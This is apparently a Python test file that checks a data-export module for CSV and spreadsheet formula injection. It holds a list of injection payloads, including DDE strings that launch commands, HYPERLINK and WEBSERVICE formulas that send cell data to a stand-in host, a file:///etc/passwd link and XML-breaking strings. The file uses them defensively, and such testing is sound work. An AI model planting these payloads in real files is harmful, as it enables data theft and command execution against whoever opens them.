"""Opening an export is safe (P34): 0 formulas, 0 links, every text as it was, whatever somebody typed."""

import re
import zipfile
from collections.abc import Mapping
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from xlsxwriter import Workbook

from binakon.core import exports
from binakon.core.exports.sheet import OPTIONS
from tests.core.export_cases import (
    TEXT_COLUMNS,
    Row,
    an_export,
    read_csv,
    row_of,
    sheet,
    workbook,
)

RICH = '<r><t>x</t></r></is></c><c r="C2"><f>1+1</f><v>2</v></c><c><is><r></r>'


PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    "﹢1",
    "﹣1",
    "﹦1",
    "﹫SUM(1)",
    "\u200b=1+1",
    "\u200c=1+1",
    "\u200d=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u202e=1+1",
    "\u200f=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://jahat.example/?a="&A1,"Klik")',
    '=WEBSERVICE("https://jahat.example/"&A1)',
    '=IMPORTXML("https://jahat.example","//a")',
    "{=1+1}",
    "'=1+1",
    "''=1+1",
    "https://jahat.example/",
    "mailto:a@jahat.example",
    "file:///etc/passwd",
    "internal:Sheet2!A1",
    "external:c:\\x.xlsx",
    'Budi";=1+1;"',
    "Budi;=1+1",
    "Budi\t=1+1",
    "Budi\n=1+1",
    'a,"=1+1',
    "]]></t></is></c><c><f>1+1</f></c>",
    RICH,
    "<r>tebal</r>",
    "_x003D_1+1",
    "_x0041_",
    "\ud800=1+1",
    "Budi\udfff",
    "Budi\ufffe\uffff",
    "\x01\x08\x0b\x1f",
    "\x7f\x85",
    "🧱 Siti \U0001f3d7",
    "  dua spasi  ",
    "1e5",
    "00123",
    "6305010101010001",
    "TRUE",
    "#REF!",
    "2026-04-17",
    "Hj. Siti Nor’aini, S.T.",
    "x" * 40_000,
]


def everywhere() -> list[Row]:
    """Every payload once in every text column."""
    return [row_of(column, payload) for payload in PAYLOADS for column in TEXT_COLUMNS]


def parts(content: bytes) -> Mapping[str, str]:
    with zipfile.ZipFile(BytesIO(content)) as book:
        return {name: book.read(name).decode() for name in book.namelist()}


def dangers(content: bytes) -> list[str]:
    """What makes a spreadsheet act: formulas, links, relations to elsewhere, cells that are not typed as text."""
    found = []
    for name, xml in parts(content).items():
        found += [
            f"{name}: {tag}" for tag in re.findall(r"<(?:f|hyperlink|oleLink|ddeLink)[ />]", xml)
        ]
        found += [
            f"{name}: external" for _ in re.findall(r'TargetMode="External"|externalLink', xml)
        ]
    return found


def test_there_are_payloads_enough_and_none_twice() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


def test_no_payload_in_any_text_column_becomes_a_formula_or_a_link_in_xlsx() -> None:
    content = workbook(an_export(rows=everywhere()))
    assert dangers(content) == []
    wanted = [[exports.clean(row[key])[:32_767] for key in TEXT_COLUMNS] for row in everywhere()]
    assert sheet(content) == [["Nama", "Asal", "Catatan"], *wanted]
    kinds = set(re.findall(r'<c [^>]*?\bt="(\w+)"', parts(content)["xl/worksheets/sheet1.xml"]))
    assert kinds == {"inlineStr"}


def test_the_library_alone_would_let_formulas_in() -> None:
    """The control of the test above: without our typing, and without our sheet, the dangers are found."""
    naive, rich = BytesIO(), BytesIO()
    with Workbook(naive, {"constant_memory": True}) as book:
        plain = book.add_worksheet()
        plain.write(0, 0, "=1+1")
        plain.write(1, 0, "https://jahat.example/")
    with Workbook(rich, OPTIONS) as book:
        book.add_worksheet().write_string(0, 0, RICH)
    assert [danger.split(": ")[1] for danger in dangers(naive.getvalue())] == [
        "<f>",
        "<hyperlink ",
        "external",
    ]
    assert [danger.split(": ")[1] for danger in dangers(rich.getvalue())] == ["<f>"]


RUNS = re.compile("[\\s\u00ad\u200b-\u200d\u2060\ufeff]*[=+\\-@＝＋－＠−﹢﹣﹦﹫]|[\t\r\n]")


def test_no_payload_in_any_text_column_begins_like_a_formula_in_csv() -> None:
    table = read_csv(an_export(rows=everywhere()))
    assert [cell for line in table for cell in line if RUNS.match(cell)] == []
    assert [[exports.unprotect(cell) for cell in line] for line in table[1:]] == [
        [exports.clean(row[key]) for key in TEXT_COLUMNS] for row in everywhere()
    ]
    assert RUNS.match("=1+1")


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_spreadsheet_that_splits_elsewhere_finds_no_formula_either(delimiter: str) -> None:
    """Excel in Indonesian splits at semicolons; then a quotation begun in the middle of a field protects nothing."""
    text = "".join(exports.csv_parts(an_export(rows=everywhere()))).removeprefix("\ufeff")
    fields = re.split(f"[{delimiter}\r\n]", text)
    assert [field for field in fields if RUNS.match(field.lstrip('"'))] == []


def test_visible_text_keeps_every_letter_and_loses_only_what_no_file_can_hold() -> None:
    assert [
        exports.clean(text) for text in ("Nor’aini 🧱", "a\x00b", "a\ud800b", "\u202eab", "a\r\nb")
    ] == [
        "Nor’aini 🧱",
        "ab",
        "ab",
        "ab",
        "a\nb",
    ]


def test_csv_protects_numbers_that_a_spreadsheet_would_change_and_no_others() -> None:
    texts = [
        "6305010101010001",
        "081234567890",
        "0",
        "123456789012345",
        "0,5",
        "12 April",
        "S-1",
        "",
    ]
    assert [exports.protect(text) for text in texts] == [
        "'6305010101010001",
        "'081234567890",
        *texts[2:],
    ]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="'=+-@;\t\n \u200b09aＢ＝", max_size=12) | st.text(max_size=20))
def test_what_csv_added_is_taken_away_again(text: str) -> None:
    protected = exports.protect(text)
    assert exports.unprotect(protected) == text
    assert not re.match("[ \u200b]*[=+\\-@＝]", protected)
